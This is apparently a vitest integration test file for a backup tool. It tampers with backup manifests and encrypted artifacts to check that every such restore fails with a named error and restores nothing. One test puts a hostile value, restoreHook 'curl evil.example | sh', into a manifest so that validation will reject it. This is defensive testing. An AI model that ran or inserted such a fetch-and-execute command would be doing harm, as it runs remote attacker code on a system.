/**
 * Tampered inputs: a manifest edited (hashes, sizes, format version, unknown fields), artifacts truncated, bit-
 * flipped or swapped between two backups, the wrong identity. Each restore must fail with an error that names
 * what is wrong (the backup, the artifact, the field) and restore nothing: the target PostgreSQL server gets no
 * database, the target Redis no key, the cluster no namespace or object. A full restore is used (Kubernetes,
 * then PostgreSQL, then Redis), so a bad artifact late in that order must be caught before the first part is
 * applied.
 */
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resolveBackup } from '../../src/repository/catalog.js';
import { runBackup } from '../../src/engine/backup.js';
import { loadIdentities } from '../../src/config/keys.js';
import type { Config } from '../../src/config/schema.js';
import { generateX25519Identity, parseIdentity, type Identity } from '../../src/crypto/index.js';
import { manifestKey } from '../../src/repository/layout.js';
import type { Manifest } from '../../src/repository/manifest.js';
import { runRestore } from '../../src/engine/restore.js';
import { openStore } from '../../src/store/open.js';
import { errorMessage } from '../../src/util/errors.js';
import { silentLogger } from '../../src/util/log.js';
import { startPlatform, type Platform } from '../support/platform.js';
import { startPostgres, type TestPostgres } from '../support/postgres.js';
import { startRedis, type TestRedis } from '../support/redis.js';
import { runCliProcess } from '../support/cli-process.js';
import { FaultCounter, nextSecond } from './support.js';

const counter = new FaultCounter(import.meta.filename);

describe('tampered manifests and artifacts, the wrong key: a clear error and nothing restored', () => {
  let p: Platform;
  let pg2: TestPostgres;
  let redis2: TestRedis;
  let config: Config;
  let identities: Identity[];
  let a: Manifest;
  let b: Manifest;
  let storeDir: string;
  let n = 0;
  const store = () => openStore(config.store);
  const pathOf = (key: string) => join(storeDir, ...key.split('/'));
  const keyOf = (m: Manifest, name: string) => m.artifacts.find((x) => x.name === name)!.key;

  /** Runs `tamper`, then a full restore of backup B into empty targets; puts the store back afterwards. */
  const restoreTampered = async (tamper: () => Promise<void>, opts: { identities?: Identity[]; only?: Array<'kube' | 'postgres' | 'redis'>; jobs?: number } = {}): Promise<string> => {
    const saved = new Map<string, Buffer>();
    for (const o of await store().list(`backups/${b.id}/`)) saved.set(o.key, await readFile(pathOf(o.key)));
    const ns = `tamper-${++n}`;
    let err: unknown;
    try {
      await tamper();
      counter.fault();
      const manifest = await resolveBackup(store(), b.id);
      await runRestore({
        store: store(),
        manifest,
        identities: opts.identities ?? identities,
        config,
        log: silentLogger,
        only: opts.only,
        postgres: { pgUrl: pg2.url, jobs: opts.jobs },
        redis: { redisUrl: redis2.url },
        kube: { toNamespace: ns, waitForReady: false },
      });
    } catch (e) {
      err = e;
    } finally {
      for (const [key, bytes] of saved) await writeFile(pathOf(key), bytes);
    }
    expect(err, 'the restore should have failed').toBeDefined();
    try {
      await expectNothingRestored(ns);
    } finally {
      // whatever a failing case restored must not leak into the next one
      for (const { datname } of (await pg2.query('postgres', "select datname from pg_database where not datistemplate and datname <> 'postgres'")).rows) {
        await pg2.query('postgres', `drop database "${datname}" with (force)`);
      }
      await redis2.client().flushall();
    }
    return errorMessage(err);
  };

  const expectNothingRestored = async (ns: string) => {
    const dbs = (await pg2.query('postgres', 'select datname from pg_database where not datistemplate order by 1')).rows.map((r: { datname: string }) => r.datname);
    const keys = [...(await redis2.client().info('keyspace')).matchAll(/^db\d+:keys=(\d+)/gm)].reduce((s, m) => s + Number(m[1]), 0);
    const objects = p.kube.objects().filter((o) => o.metadata?.namespace === ns || (o.kind === 'Namespace' && o.metadata?.name === ns));
    const restored = { databases: dbs, redisKeys: keys, kubeObjects: objects.map((o) => `${o.kind}/${o.metadata.name}`) };
    if (dbs.length !== 1 || keys !== 0 || objects.length !== 0) counter.mismatch(`something was restored from a tampered backup: ${JSON.stringify(restored)}`);
    expect(restored).toEqual({ databases: ['postgres'], redisKeys: 0, kubeObjects: [] });
  };

  const editManifest = async (edit: (m: any) => void) => {
    const file = pathOf(manifestKey(b.id));
    const m = JSON.parse(await readFile(file, 'utf8'));
    edit(m);
    await writeFile(file, JSON.stringify(m, null, 2));
  };
  const flip = (hex: string) => `${hex[0] === '0' ? '1' : '0'}${hex.slice(1)}`;

  beforeAll(async () => {
    [p, pg2, redis2] = await Promise.all([startPlatform({ rows: 20_000, redisKeys: 2000 }), startPostgres(), startRedis()]);
    config = p.config();
    storeDir = config.store.url.slice('file://'.length);
    identities = await loadIdentities(config);
    a = await runBackup({ config, store: store(), schedule: 'manual', log: silentLogger });
    await nextSecond();
    b = await runBackup({ config, store: store(), schedule: 'manual', log: silentLogger });
    counter.backup(2);
    expect([a.status, b.status]).toEqual(['Completed', 'Completed']);
  });
  afterAll(async () => {
    await Promise.all([p?.stop(), pg2?.stop(), redis2?.stop()]);
    await counter.report();
  });

  it('control: the untampered backup restores (so the refusals below are about the tampering)', async () => {
    const manifest = await resolveBackup(store(), b.id);
    const report = await runRestore({
      store: store(),
      manifest,
      identities,
      config,
      log: silentLogger,
      postgres: { pgUrl: pg2.url, database: 'control' },
      redis: { redisUrl: redis2.url },
      kube: { toNamespace: 'tamper-control', waitForReady: false },
    });
    expect(report.failed).toBe(0);
    await pg2.query('postgres', 'drop database control with (force)');
    await redis2.client().flushall();
  });

  for (const artifact of ['postgres/gushen.dump', 'redis/dump.rdb', 'kube/resources.tar']) {
    it(`manifest edited: ${artifact}'s stored SHA-256`, async () => {
      const msg = await restoreTampered(() => editManifest((m) => ((x) => (x.stored.sha256 = flip(x.stored.sha256)))(m.artifacts.find((x: any) => x.name === artifact))));
      expect(msg).toContain(`artifact ${artifact}`);
      expect(msg).toMatch(/stored object: SHA-256 is [0-9a-f]{64}, the manifest says [0-9a-f]{64}/);
    });
  }

  /** Flips the dump's plaintext SHA-256, or gives it a wrong one when it has none (format 2: zstd straight from pg_dump). */
  const wrongPlaintextHash = (x: { sha256?: string }) => (x.sha256 = x.sha256 ? flip(x.sha256) : '0'.repeat(64));

  it("manifest edited: the database dump's plaintext SHA-256 (flipped, or added when it has none)", async () => {
    const msg = await restoreTampered(() => editManifest((m) => wrongPlaintextHash(m.artifacts.find((x: any) => x.name === 'postgres/gushen.dump'))));
    expect(msg).toContain('artifact postgres/gushen.dump');
    expect(msg).toMatch(/plaintext: SHA-256 is [0-9a-f]{64}, the manifest says [0-9a-f]{64}/);
  });

  for (const jobs of [1, 2]) {
    it(`only PostgreSQL, ${jobs === 1 ? 'streamed into pg_restore (one job)' : 'staged (two jobs)'}: the dump's plaintext SHA-256 edited`, async () => {
      const msg = await restoreTampered(() => editManifest((m) => wrongPlaintextHash(m.artifacts.find((x: any) => x.name === 'postgres/gushen.dump'))), {
        only: ['postgres'],
        jobs,
      });
      expect(msg).toContain('artifact postgres/gushen.dump');
      expect(msg).toMatch(/plaintext: SHA-256 is [0-9a-f]{64}, the manifest says [0-9a-f]{64}/);
    });
  }

  it('only Redis: the RDB artifact bit-flipped', async () => {
    const key = keyOf(b, 'redis/dump.rdb');
    const msg = await restoreTampered(
      async () => {
        const bytes = Buffer.from(await readFile(pathOf(key)));
        bytes[Math.floor(bytes.length / 2)] ^= 0x01;
        await writeFile(pathOf(key), bytes);
      },
      { only: ['redis'] },
    );
    expect(msg).toContain('artifact redis/dump.rdb');
    // age authenticates each chunk: the flipped bit is caught in its chunk, before the end-of-stream hash
    expect(msg).toMatch(/failed authentication|stored object: SHA-256 is/);
  });

  it("manifest edited: the Redis artifact's stored size", async () => {
    const msg = await restoreTampered(() => editManifest((m) => (m.artifacts.find((x: any) => x.name === 'redis/dump.rdb').stored.size += 1)));
    expect(msg).toContain('artifact redis/dump.rdb');
    expect(msg).toMatch(/stored object: size is \d+ bytes, the manifest says \d+/);
  });

  it("manifest edited: the database dump's plaintext size", async () => {
    const msg = await restoreTampered(() => editManifest((m) => (m.artifacts.find((x: any) => x.name === 'postgres/gushen.dump').size -= 1)));
    expect(msg).toContain('artifact postgres/gushen.dump');
    expect(msg).toMatch(/plaintext: size is \d+ bytes, the manifest says \d+/);
  });

  it('manifest edited: another format version', async () => {
    const msg = await restoreTampered(() => editManifest((m) => (m.formatVersion = 3)));
    expect(msg).toBe(`manifest ${b.id} has formatVersion 3; this gushen-dr reads formatVersion 1 and 2`);
  });

  it('manifest edited: unknown fields, at the top and in an artifact', async () => {
    const top = await restoreTampered(() => editManifest((m) => (m.restoreHook = 'curl evil.example | sh')));
    expect(top).toMatch(new RegExp(`^manifest ${b.id} is invalid: .*restoreHook`));
    const inArtifact = await restoreTampered(() => editManifest((m) => (m.artifacts[0].decryptWith = 'none')));
    expect(inArtifact).toMatch(new RegExp(`^manifest ${b.id} is invalid: .*artifacts\\.0.*decryptWith`));
  });

  it('manifest edited: the backup id (moved from another backup)', async () => {
    const msg = await restoreTampered(() => editManifest((m) => (m.id = a.id)));
    expect(msg).toBe(`manifest ${b.id} names another backup id (${a.id}): it was moved or tampered with`);
  });

  it('artifact truncated', async () => {
    const key = keyOf(b, 'postgres/gushen.dump');
    const msg = await restoreTampered(async () => {
      const bytes = await readFile(pathOf(key));
      await writeFile(pathOf(key), bytes.subarray(0, Math.floor(bytes.length / 2)));
    });
    expect(msg).toContain('artifact postgres/gushen.dump');
    expect(msg).toMatch(/stored object: size is \d+ bytes, the manifest says \d+/);
  });

  it('artifact truncated, and the manifest edited to the truncated size', async () => {
    const key = keyOf(b, 'redis/dump.rdb');
    const msg = await restoreTampered(async () => {
      const bytes = await readFile(pathOf(key));
      const cut = bytes.subarray(0, bytes.length - 100);
      await writeFile(pathOf(key), cut);
      await editManifest((m) => (m.artifacts.find((x: any) => x.name === 'redis/dump.rdb').stored.size = cut.length));
    });
    expect(msg).toContain('artifact redis/dump.rdb');
    expect(msg).toMatch(/stored object: SHA-256 is/);
  });

  it('artifacts swapped between two backups (same sizes, other contents)', async () => {
    const msg = await restoreTampered(async () => {
      for (const name of ['postgres/gushen.dump', 'redis/dump.rdb', 'kube/resources.tar']) {
        await writeFile(pathOf(keyOf(b, name)), await readFile(pathOf(keyOf(a, name))));
      }
    });
    // the first artifact checked is named; every one of them would fail the same way
    expect(msg).toMatch(/artifact (postgres\/gushen\.dump|redis\/dump\.rdb|kube\/resources\.tar)/);
    expect(msg).toMatch(/stored object: (size is \d+ bytes|SHA-256 is [0-9a-f]{64}), the manifest says/);
  });

  it('artifact bit-flipped and the manifest re-hashed to match: age authentication catches it', async () => {
    const { createHash } = await import('node:crypto');
    const key = keyOf(b, 'postgres/gushen.dump');
    const msg = await restoreTampered(async () => {
      const bytes = Buffer.from(await readFile(pathOf(key)));
      bytes[Math.floor(bytes.length * 0.7)] ^= 0x40;
      await writeFile(pathOf(key), bytes);
      const sha = createHash('sha256').update(bytes).digest('hex');
      await editManifest((m) => (m.artifacts.find((x: any) => x.name === 'postgres/gushen.dump').stored.sha256 = sha));
    });
    expect(msg).toContain('artifact postgres/gushen.dump');
    expect(msg).toMatch(/authentication|corrupt/i);
  });

  it('the wrong identity', async () => {
    const other = generateX25519Identity();
    const msg = await restoreTampered(async () => undefined, { identities: [parseIdentity(other.identity)] });
    expect(msg).toMatch(/artifact (kube\/resources\.tar|postgres\/gushen\.dump|redis\/dump\.rdb)/);
    expect(msg).toMatch(/no identity matched/);
  });

  it('through the CLI: a tampered manifest makes restore exit 1 with the reason, and verify names it too', async () => {
    const file = pathOf(manifestKey(b.id));
    const saved = await readFile(file);
    const cfg = await p.writeConfig('tamper.yaml');
    try {
      await editManifest((m) => (m.artifacts.find((x: any) => x.name === 'postgres/gushen.dump').stored.sha256 = '0'.repeat(64)));
      counter.fault();
      const r = await runCliProcess(['--config', cfg, 'restore', b.id, '--pg-url', pg2.url, '--redis-url', redis2.url, '--to-namespace', 'tamper-cli', '--no-wait']);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/artifact postgres\/gushen\.dump .*stored object: SHA-256 is [0-9a-f]{64}, the manifest says 0{64}/);
      await expectNothingRestored('tamper-cli');
      const v = await runCliProcess(['--config', cfg, 'verify', b.id]);
      expect(v.code).toBe(1);
      expect(v.stdout + v.stderr).toMatch(/postgres\/gushen\.dump.*SHA-256/);
    } finally {
      await writeFile(file, saved);
    }
  });
});
